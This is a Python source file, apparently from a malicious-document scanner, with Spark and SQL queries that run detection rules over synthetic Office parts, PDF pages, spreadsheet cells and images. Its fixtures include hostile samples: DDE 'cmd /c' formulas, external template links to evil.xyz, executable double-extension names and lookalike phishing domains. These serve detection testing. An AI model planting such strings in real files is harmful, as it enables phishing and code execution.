"""Queries of container parts, page tables and cells, over rows that follow from ``documents``.

A document's text, with a snippet that depends on its key, is the data of a
part whose name depends on the key too; Spark and SQL derive the same strings.
"""

from __future__ import annotations

from pyspark.sql import functions as F

from threatscan.functions import text as X
from threatscan.operators import documents as D
from threatscan.plans.catalog import query
from threatscan.plans.url_queries import _any, _l
from threatscan.rules import documents as R

#: profile -> names of parts, by key modulo their number.
NAMES = {
    "docx": ["word/document.xml", "word/_rels/settings.xml.rels", "word/embeddings/oleObject1.bin", "word/embeddings/a.pdf.exe", "word/run.vbs", "word/_rels/document.xml.rels", "word/settings.xml", "word/media/image1.png", "word/_rels/image1.xml.rels", "word/embeddings/b.PS1", "docProps/app.xml"],
    "xlsx": ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/connections.xml", "xl/drawings/oleObject2.bin", "xl/queryTables/q1.xml", "xl/_rels/workbook.xml.rels", "xl/macrosheets/s.xml", "xl/printerSettings/printerSettings1.bin", "xl/mySettings.xml", "xl/media/a.gif", "xl/drawings/_rels/image.xml.rels"],
    "pptx": ["ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels", "ppt/media/a.png", "ppt/media/b.gif", "ppt/vbaProject.bin", "ppt/embeddings/c.docx.scr", "ppt/slides/slide22.xml", "ppt/media/d.JPG", "ppt/embeddings/o.bin", "ppt/embeddings/p.msi", "ppt/_rels/presentation.xml.rels"],
}
_TYPED = '<Relationship Type="http://x/{}" Target="{}" TargetMode="External"/>'
_MODED = '<Relationship TargetMode="External" Type="http://x/{}" Target="{}"/>'
#: Snippets, by whole key divided by the number of names, modulo their number.
SNIPPETS = [
    "", "MZ", _TYPED.format("attachedTemplate", "http://evil.xyz/t.dotm"), _TYPED.format("image", "https://cdn.example.org/x.PNG") + "https://schemas.microsoft.com/a http://evil.xyz/q", "=cmd|' /c calc exec(1) =run(2)", 'Provider=x OLEDB <sheet name="s" state="veryHidden"/><sheet state="hidden"/>',
    "<p:timing><p:cmd/><p:cTn delay=\"0\"> mouseover", "hlinkClick<a:noFill/> ppaction://macro", "<p:ph/> hlinkMouseOver <p:oleObj", "GIF", "0123456789abcdef" * 6, "<p:timing> ppaction://program macrosheets call(",
    _MODED.format("hyperlink", "https://support.microsoft.com/x") + _MODED.format("x", "file:///c:/a.exe") + _TYPED.format("y", "file:///c:/b.exe"), _MODED.format("slideTemplate", "https://a.example.org/p.jpeg") + "oleobject", "PNG", "https://officeapps.live.com/x http://b.example.org",
]


def _parts(spark, sf, profile):
    docs = spark.read.parquet(f"{sf}/documents.parquet")
    names, n = NAMES[profile], len(NAMES[profile])
    name = F.get(X.array_of(names), F.pmod("doc_id", F.lit(n)).cast("int"))
    snippet = F.get(X.array_of(SNIPPETS), F.pmod(F.floor(F.col("doc_id") / n), F.lit(len(SNIPPETS))).cast("int"))
    return docs.select(F.col("doc_id").alias("id"), name.alias("entry_name"), F.encode(F.concat(snippet, "text"), "UTF-8").alias("data"), F.lit(None).cast("string").alias("error"))


def _target(of: str) -> str:
    return f"list_transform(regexp_extract_all(x, '{of}'), lambda m: trim(regexp_extract(m, 'Target=\"([^\"]+)\"', 1)))"


def _parts_sql(profile: str) -> str:
    names, n = NAMES[profile], len(NAMES[profile])
    safe = ["schemas.openxmlformats.org", "schemas.microsoft.com", "purl.org", "www.w3.org", "microsoft.com", "office.com"]
    hosts = [*safe, "schemas.openformats.org", "officeapps.live.com"] if profile == "docx" else safe
    return rf"""q AS (SELECT doc_id AS id, {_l(names)}[1 + (doc_id % {n})::INT] AS given, {_l(SNIPPETS)}[1 + ((doc_id // {n}) % {len(SNIPPETS)})::INT] || text AS x FROM documents),
p AS (SELECT *, lower(given) AS name, lower(x) AS low, ends_with(given, '.xml') AS xml, ends_with(given, '.rels') AS rels,
  list_filter({_target('TargetMode="External"[^>]*Target="[^"]+"')}, lambda u: starts_with(u, 'http')) AS outside,
  list_filter({_target('TargetMode="External"[^>]*Target="[^"]+"|Target="[^"]+"[^>]*TargetMode="External"')}, lambda u: u <> '' AND NOT {_any("regexp_extract(lower(u), '^[a-z]+://([^/?#]*)', 1)", R.SAFE_DOMAINS)}) AS external,
  list_filter(regexp_extract_all(x, 'https?://[^\s"<>]+'), lambda u: NOT {_any("lower(u)", hosts)}) AS unsafe,
  list_filter(regexp_extract_all(x, 'https?://[^\s"<>\]]+'), lambda u: NOT {_any("lower(u)", R.SAFE_DOMAINS)}) AS web FROM q)"""


def _n(words, of: str = "low") -> str:
    return f"len(list_filter({_l(words)}, lambda t: contains({of}, t)))"


def _rules_sql(profile: str) -> list[tuple[str, str]]:
    """(how often, finding) of each rule; prose has too few different characters for the rules on entropy."""
    ppt = profile == "pptx"
    inside = " OR ".join(f"contains(name, '{w}')" for w in {"docx": ["embeddings", "oleobject"], "xlsx": ["embeddings", "oleobject", "drawings"], "pptx": ["embeddings"]}[profile])
    ends = lambda names: "(" + " OR ".join(f"ends_with(name, '{e}')" for e in names.split()) + ")"
    mz = "starts_with(x, 'MZ')"
    rules = [] if ppt else [
        (f"({inside})::INT", "embedded_ole_object"), (f"(({inside}) AND {ends('.exe .dll .bat .cmd .ps1 .vbs .js .hta .scr .pif .com')})::INT", "embedded_executable"), (rf"(({inside}) AND regexp_matches(name, '/[^/]*\.[^/]*\.[^/]*$'))::INT", "double_extension_payload"),
        (f"{ends('.js .vbs .ps1 .bat .cmd .hta')}::INT", "embedded_script"), (f"{mz}::INT", "embedded_executable"), ("(rels AND contains(x, 'attachedTemplate') AND regexp_matches(x, 'Target=\"https?://[^\"]+\"'))::INT", "external_template"),
        ("CASE WHEN rels AND contains(name, 'image') THEN len(regexp_extract_all(x, 'Target=\"https?://[^\"]+\"')) ELSE 0 END", "external_image_tracker"), ("CASE WHEN rels THEN len(outside) ELSE 0 END", "suspicious_relationship"),
        (f"CASE WHEN {'given = ' + chr(39) + 'word/settings.xml' + chr(39) if profile == 'docx' else 'xml AND contains(name, ' + chr(39) + 'settings' + chr(39) + ')'} THEN len(unsafe) ELSE 0 END", "hidden_relationship"),
    ]
    if profile == "docx":
        rules.append(("(xml AND regexp_matches(x, '[0-9a-fA-F]{80,}'))::INT", "encoded_macro_payload"))
    if profile == "xlsx":
        of = lambda k: _n([w for w in R.XLM if k in w])
        hidden = lambda s: f"len(regexp_extract_all(x, '<sheet\\b[^>]*state=\"{s}\"'))"
        when = lambda test, n: f"CASE WHEN {test} THEN {n} ELSE 0 END"
        rules += [
            (f"(xml AND {_any('low', R.DDE)})::INT", "dde_attack"), (when("xml", f"contains(low, 'macrosheets')::INT + {_n(R.XLM)} - {of('exec')} - {of('run')} - {of('call')}"), "xlm_macro_detected"),
            (when("xml", of("exec")), "xlm_exec_command"), (when("xml", of("run")), "xlm_run_command"), (when("xml", of("call")), "xlm_call_command"), (when("name = 'xl/workbook.xml'", hidden("hidden")), "hidden_sheet"),
            (when("name = 'xl/workbook.xml'", f"{hidden('veryHidden')} + ({hidden('veryHidden')} > 0)::INT"), "very_hidden_sheet"), (when("contains(name, 'quer')", "len(web)"), "power_query_connection"),
            ("(name = 'xl/connections.xml' AND contains(low, 'oledb'))::INT", "ole_db_connection"), (when("name = 'xl/connections.xml'", _n(R.CONNECTIONS)), "suspicious_connection"), (when("name = 'xl/connections.xml'", "len(web)"), "external_data_connection"),
        ]
    if ppt:
        slide = r"regexp_matches(given, '^ppt/slides/slide\d+\.xml')"
        timed = f"({slide} AND contains(x, '<p:timing>'))"
        acts = "(contains(x, 'hlinkClick') OR contains(x, 'hlinkMouseOver') OR contains(low, 'ppaction://'))"
        media = "contains(given, 'ppt/media/')"
        rules += [
            ("(contains(name, 'embeddings') AND ends_with(name, '.bin'))::INT", "embedded_ole_object"), (f"(contains(name, 'embeddings') AND {ends('.exe .dll .bat .cmd .ps1 .vbs .js .hta .msi')})::INT", "embedded_executable"), (f"(contains(name, 'embeddings') AND {mz})::INT", "mz_header_found"),
            (f"({slide} AND (contains(low, 'oleobj') OR contains(low, 'oleobject')))::INT", "embedded_ole_object"), ("CASE WHEN rels THEN len(external) ELSE 0 END", "external_relationship"),
            ("CASE WHEN rels AND contains(lower(regexp_extract(x, 'Type=\"([^\"]+)\"', 1)), 'template') THEN len(external) ELSE 0 END", "template_injection"), ("CASE WHEN rels THEN len(list_filter(external, lambda u: starts_with(u, 'http://'))) ELSE 0 END", "suspicious_external_url"),
            ("CASE WHEN rels THEN len(list_filter(external, lambda u: contains(lower(u), '.png') OR contains(lower(u), '.jpg') OR contains(lower(u), '.gif') OR contains(lower(u), '.jpeg'))) ELSE 0 END", "image_tracker"),
            (f"({slide} AND regexp_matches(x, '<p:oleObj|oleObject'))::INT", "package_object"), (f"({timed} AND contains(x, '<p:cmd'))::INT", "cmd_trigger_found"), (f"({timed} AND regexp_matches(x, '<p:cTn[^>]*delay=\"0\"'))::INT", "zero_delay_trigger"),
            (f"({timed} AND contains(low, 'mouseover'))::INT", "mouseover_trigger"), (f"{timed}::INT", "suspicious_animation"), (f"({slide} AND NOT contains(x, '<p:ph') AND contains(x, 'hlinkClick'))::INT", "action_button_found"),
            (f"({slide} AND NOT contains(x, '<p:ph') AND contains(x, 'hlinkMouseOver'))::INT", "mouseover_action"), (f"({slide} AND contains(low, 'ppaction://macro'))::INT", "macro_action_button"),
            (f"({slide} AND (contains(low, 'ppaction://hlinksldjump') OR contains(low, 'ppaction://program')))::INT", "run_program_action"), (f"({slide} AND contains(x, '<a:noFill/>') AND {acts})::INT", "invisible_button"),
            (f"({media} AND {ends('.png .jpg .jpeg')})::INT", "media_type_mismatch"), (f"({media} AND {mz})::INT", "embedded_executable"), ("contains(name, 'vbaproject.bin')::INT", "vba_macro_detected"),
        ]
    return rules


def _found_sql(profile: str) -> str:
    each = " UNION ALL ".join(f"SELECT id, '{f}' AS finding, {n} AS n FROM p" for n, f in _rules_sql(profile))
    return f"WITH {_parts_sql(profile)} SELECT id, finding, sum(n)::BIGINT AS n FROM ({each}) WHERE n > 0 GROUP BY ALL"


def _counted(found):
    return found.groupBy("id", "finding").agg(F.count(F.lit(1)).alias("n"))


@query("part_findings_docx", _found_sql("docx"))
def part_findings_docx(spark, sf):
    return _counted(D.part_findings(_parts(spark, sf, "docx"), "docx"))


@query("part_findings_xlsx", _found_sql("xlsx"))
def part_findings_xlsx(spark, sf):
    return _counted(D.part_findings(_parts(spark, sf, "xlsx"), "xlsx"))


@query("part_findings_pptx", _found_sql("pptx"))
def part_findings_pptx(spark, sf):
    return _counted(D.part_findings(_parts(spark, sf, "pptx"), "pptx"))


_PAGE_NOTES = ["", "password expired", "see https://ok.example.org/a", "http://evil.xyz/x", "  short  ", " \n\t"]


def _notes(of: str) -> str:
    return f"{_l(_PAGE_NOTES)}[1 + ({of} % {len(_PAGE_NOTES)})::INT]"


@query(
    "pdf_pages",
    rf"""WITH p AS (SELECT doc_id // 3 AS id, doc_id % 3 AS images, {_notes("(doc_id // 3)")} || CASE WHEN (doc_id // 3) % 4 = 0 THEN text ELSE '' END AS body, doc_id % 5 = 0 AS linked FROM documents),
a AS (SELECT id, sum(images) AS images, count(*) FILTER (linked) AS links, length(regexp_replace(string_agg(body, '' ORDER BY images), '^\s+|\s+$', '', 'g')) AS chars,
  bool_or({_any("lower(body)", [p for _, p in R.phrases("pdf")])}) OR bool_or(len(list_filter(regexp_extract_all(body, 'https?://[^\s<>"{{}}|\\^`\[\]]+'), lambda u: starts_with(u, 'http://') OR ends_with(regexp_extract(u, '^https?://([^/?#]*)', 1), '.xyz'))) > 0) AS signs FROM p GROUP BY id)
SELECT id, finding FROM (SELECT id, unnest([CASE WHEN images >= 1 AND chars < 100 AND (links > 0 OR signs) THEN 'single_image_pdf' END, CASE WHEN images > 0 AND links > 0 AND links >= images THEN 'clickable_image_overlay' END]) AS finding FROM a) WHERE finding IS NOT NULL""",
)
def pdf_pages(spark, sf):
    """Page tables: three documents are the pages of a file, whole texts in every fourth file and a note in each."""
    d, k = spark.read.parquet(f"{sf}/documents.parquet"), F.col("doc_id")
    id_ = F.floor(k / 3).cast("long")
    note = F.get(X.array_of(_PAGE_NOTES), F.pmod(id_, F.lit(len(_PAGE_NOTES))).cast("int"))
    pages = d.select(id_.alias("id"), k.alias("page"), F.concat(note, F.when(id_ % 4 == 0, F.col("text")).otherwise("")).alias("text"), (k % 3).alias("n_images"))
    links = d.filter(k % 5 == 0).select(id_.alias("id"), k.alias("page"), F.lit("x").alias("visible_text"), F.lit("https://good.example.org").alias("url"))
    return D.pdf_page_findings(pages, links).select("id", "finding")


#: Starts of cell values, by key.
CELLS = ['=HYPERLINK("http://evil.xyz/x")', '=hyperlink("https://ok.example.org")', "=WEBSERVICE(A1)", "=INDIRECT(B2)", "=CHAR(1)&char(2)&CHAR(3)&CHAR(4)", "CHAR(1)CHAR(2)CHAR(3)CHAR(4)", "=cmd|' /c'!A0", ""]


@query(
    "workbook_cell_findings",
    f"""WITH c AS (SELECT doc_id AS id, lower({_l(CELLS)}[1 + (doc_id % {len(CELLS)})::INT] || text) AS low FROM documents),
f AS (SELECT *, starts_with(low, '=') AS formula FROM c)
SELECT id, finding FROM (SELECT id, unnest([CASE WHEN formula AND contains(low, '=hyperlink(') AND starts_with(low, '=hyperlink("http://') THEN 'formula_hyperlink_injection' END, CASE WHEN formula AND contains(low, '=webservice(') THEN 'webservice_formula' END, CASE WHEN formula AND contains(low, '=indirect(') THEN 'formula_obfuscation' END,
CASE WHEN formula AND (length(low) - length(replace(low, 'char(', ''))) // 5 >= 4 THEN 'char_concat_formula' END, CASE WHEN {_any("low", R.DDE)} THEN 'dde_attack' END]) AS finding FROM f) WHERE finding IS NOT NULL""",
)
def workbook_cell_findings(spark, sf):
    d = spark.read.parquet(f"{sf}/documents.parquet")
    start = F.get(X.array_of(CELLS), F.pmod("doc_id", F.lit(len(CELLS))).cast("int"))
    return D.cell_findings(d.select(F.col("doc_id").alias("id"), F.concat(start, "text").alias("value"))).select("id", "finding")


#: First characters of image files, and texts put before a document's own, by key.
_HEADS = ["PNG", "GIF89a", "BM", "MZ", ""]
_SHOWN = [
    "", "Login at https://paytm-login.xyz/x password", "https://good.example.org/ ssl secured ••••", "paypa1.com g00gle.top verify turant", "कख khata search or type url", "user name mobile number otp submit", "rnicrosoft.net vvv.io аpple", "sbi hdfc https://amazon-pay.ru",
]
_QRS = [None, ["http://evil.xyz"], ["https://ok.example.org", " 12345678901 "], ["upi:paytm"]]
_CONF = [None, [20] * 20, [40] * 16 + [61], [61] * 15 + [-1] * 4, [10] * 3 + [65] * 20, [62] * 15 + [1] * 40]
_EXT = [".png", ".gif", ".bmp", ".webp", ".jpg"]


def _nested(values) -> str:
    one = lambda v: "NULL" if v is None else "[" + ", ".join(f"'{x}'" if isinstance(x, str) else str(x) for x in v) + "]"
    return "[" + ", ".join(one(v) for v in values) + "]"


_IMAGES = rf"""im AS (SELECT doc_id AS id, doc_id AS k, {_l(_EXT)}[1 + (doc_id % {len(_EXT)})::INT] AS ext, {_l(_HEADS)}[1 + ((doc_id // 5) % {len(_HEADS)})::INT] AS head, doc_id * 37 % 500000 AS size, 50 + doc_id * 13 % 700 AS width, 60 + doc_id * 29 % 600 AS height,
  CASE WHEN doc_id % 9 = 0 THEN '' ELSE {_l(_SHOWN)}[1 + ((doc_id // 2) % {len(_SHOWN)})::INT] || ' ' || text END AS t, {_nested(_CONF)}[1 + ((doc_id // 3) % {len(_CONF)})::INT] AS conf, {_nested(_QRS)}[1 + ((doc_id // 7) % {len(_QRS)})::INT] AS qr0,
  (doc_id % 100) / 100.0 AS white, doc_id % 40 AS sigma, (doc_id % 10) / 10.0 AS clear FROM documents),
im1 AS (SELECT *, lower(t) AS low, len(regexp_extract_all(t, '[\p{{L}}\p{{N}}_\p{{M}}]+')) AS words, width * height AS pixels, list_transform(coalesce(qr0, []), lambda u: trim(u)) AS qr, list_filter(coalesce(conf, []), lambda x: x >= 0) AS cf,
  list_concat(list_transform(regexp_extract_all(t, '[a-zA-Z0-9.-]+\.(?:com|org|net|in|co\.in|gov\.in|edu|io|xyz|top|ru|tk)'), lambda d: lower(d)), list_transform(regexp_extract_all(t, 'https?://([^\s/]+)', 1), lambda d: lower(d))) AS domains,
  list_transform(regexp_extract_all(t, 'https://([^\s/\]>]+)', 1), lambda d: lower(d)) AS secure FROM im),
im2 AS (SELECT *, len(list_filter(cf, lambda x: x > 60)) AS sure, list_sum(cf) / nullif(len(cf), 0) AS mean FROM im1)"""
_BRAND_LIST = _l(R.IMAGE_BRANDS)


def _of_domains(test: str) -> str:
    return f"len(list_filter(domains, lambda d: {test}))"


_BAD_URL = f"(starts_with(u, 'http://') OR len(list_filter({_l(R.TLDS['image'])}, lambda e: ends_with(regexp_extract(lower(u), '^https?://([^/]*)', 1), e))) > 0)"
_IMAGE_RULES = [
    ("(NOT CASE ext WHEN '.png' THEN false WHEN '.gif' THEN starts_with(head, 'GIF') WHEN '.bmp' THEN starts_with(head, 'BM') WHEN '.jpg' THEN false ELSE true END)::INT", "file_type_mismatch"), ("(width < 100 OR height < 100)::INT", "suspicious_exif"), ("(width < 300 AND height < 300)::INT", "blurred_image"),
    ("(trim(t) = '')::INT", "low_text_density"), ("(pixels > 100000 AND words < 10)::INT", "single_image_content"), (_n(R.IMAGE_BRANDS), "ocr_phishing_text"), (f"({_n(R.IMAGE_BRANDS)} > 0 OR {_n(R.LOGIN_WORDS)} >= 2)::INT", "fake_login_page"), ("(len(qr) > 0)::INT", "qr_code_detected"),
    (f"len(list_filter(qr, lambda u: starts_with(u, 'http') AND {_BAD_URL}))", "qr_malicious_url"), (rf"len(list_filter(qr, lambda u: CASE WHEN starts_with(u, 'http') THEN NOT {_BAD_URL} ELSE regexp_matches(u, '^\+?\d{{10,15}}$') OR {_any('lower(u)', R.IMAGE_BRANDS)} END))", "qr_suspicious_url"),
    ("coalesce((size / nullif(pixels * 3, 0) > 2)::INT, 0)", "suspicious_file_size"), (f"({_n(R.HINDI)} > 0)::INT", "hindi_phishing_detected"), ("(regexp_matches(t, '[\\x{0900}-\\x{097F}]') AND regexp_matches(t, '[A-Za-z]'))::INT", "mixed_script_detected"),
    (f"{_n(list(R.HOMOGLYPHS), 'im2.t')} + coalesce(list_sum(list_transform(domains, lambda d: len(list_filter({_l(R.SPOOFS)}, lambda s: contains(d, s))))), 0)::BIGINT", "homograph_domain"), (f"{_of_domains(chr(39).join(['regexp_matches(d, ', '[a-z]0[a-z]', ')']))} + {_of_domains(chr(39).join(['regexp_matches(d, ', '[a-z]1[a-z]', ')']))}", "char_substitution"),
    (f"{_of_domains(chr(39).join(['contains(d, ', 'rn', ')']))} + {_of_domains(chr(39).join(['contains(d, ', 'vv', ')']))}", "lookalike_domain"), ("(white > 0.95)::INT", "hidden_text_overlay"), ("(sigma < 15)::INT", "low_contrast_text"), ("(clear > 0.3)::INT", "transparent_layer"),
    ("regexp_matches(t, '[•*]{4,}')::INT", "password_field_detected"), (f"({_any('low', R.BUTTONS)})::INT", "fake_submit_button"), (f"({_n(R.FIELDS)} >= 2)::INT", "fake_login_form_detected"), (_n(R.BROWSER_SIGNS), "fake_browser_ui"),
    (f"len(list_filter(list_transform(secure, lambda d: 'https://' || d), lambda u: {_BAD_URL})) + len(list_filter(secure, lambda d: {_any('d', R.IMAGE_BRANDS)} AND len(list_filter({_l(R.TLDS['image'])}, lambda e: ends_with(d, e))) > 0))", "fake_address_bar"),
    (f"({_any('low', R.PADLOCKS)})::INT", "fake_padlock_detected"), ("coalesce((len(cf) > 0 AND sure >= 15 AND mean < 30)::INT, 0)", "blur_evasion_detected"), ("coalesce((len(cf) > 0 AND sure >= 15 AND mean >= 30 AND mean < 50)::INT, 0)", "low_ocr_confidence"), ("(k % 50 = 0)::INT", "ocr_failed"),
]
_IMAGE_SQL = f"WITH {_IMAGES} SELECT id, finding, sum(n)::BIGINT AS n FROM (" + " UNION ALL ".join(f"SELECT id, '{f}' AS finding, {n} AS n FROM im2" for n, f in _IMAGE_RULES) + ") WHERE n > 0 GROUP BY ALL"


@query("image_findings", _IMAGE_SQL)
def image_findings(spark, sf):
    """Image rows whose bytes, sizes, codes and texts follow from documents."""
    k = F.col("doc_id")

    def at(values, kind: str, step: int = 1):
        one = lambda v: F.lit(None).cast(kind) if v is None else F.array(*(F.lit(x) for x in v)).cast(kind) if isinstance(v, list) else F.lit(v)
        return F.get(F.array(*(one(v) for v in values)), F.pmod(F.floor(k / step), F.lit(len(values))).cast("int"))

    text = F.concat(at(_SHOWN, "string", 2), F.lit(" "), "text")
    rows = spark.read.parquet(f"{sf}/documents.parquet").select(
        k.alias("id"), F.concat(F.lit("/x/a"), at(_EXT, "string")).alias("path"), at(_HEADS, "string", 5).alias("head"), (k * 37 % 500_000).alias("size"), (50 + k * 13 % 700).alias("width"), (60 + k * 29 % 600).alias("height"),
        F.when(k % 9 == 0, "").otherwise(text).alias("ocr_text"), at(_CONF, "array<int>", 3).alias("ocr_conf"), at(_QRS, "array<string>", 7).alias("qr"), (k % 100 / 100).alias("white_share"), (k % 40).alias("sigma"), (k % 10 / 10).alias("clear_share"), F.when(k % 50 == 0, "none").alias("ocr_error"),
    )
    return _counted(D.image_findings(rows))
